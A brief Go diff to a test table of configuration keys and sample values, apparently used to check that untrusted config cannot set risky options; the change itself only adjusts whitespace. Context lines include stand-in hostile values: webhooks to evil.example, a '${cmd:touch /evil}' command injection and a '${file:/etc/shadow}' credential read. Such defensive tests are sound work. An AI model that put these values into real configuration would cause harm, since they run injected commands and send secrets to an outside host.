@@ -63,7 +63,7 @@ var strangersKeys = map[string]strangersKey{
 	"outputValidation": {tightens, []string{`"strict"`, `"warn"`, `"off"`}},
 	"limits/**": {tightens, []string{`{"calls": 1}`, `{"asks": 1, "pending": 1, "refusals": 1}`,
 		`{"calls": 1000000, "wall": "100h", "memory": "2GiB"}`}},
-	"evaluation":                   {nothing, []string{`{}`}},
+	"evaluation": {nothing, []string{`{}`}},
 	"notifications/**": {nothing, []string{`{"destinations": {"evil": {"slack": "https://evil.example/", "arguments": true}}}`,
 		`{"page": "https://evil.example", "destinations": {"evil": {"webhook": "${cmd:touch /evil}", "secret": "${file:/etc/shadow}"}}}`}},
 	"evaluation/adminURL":          {nothing, []string{`"https://evil.example"`}},
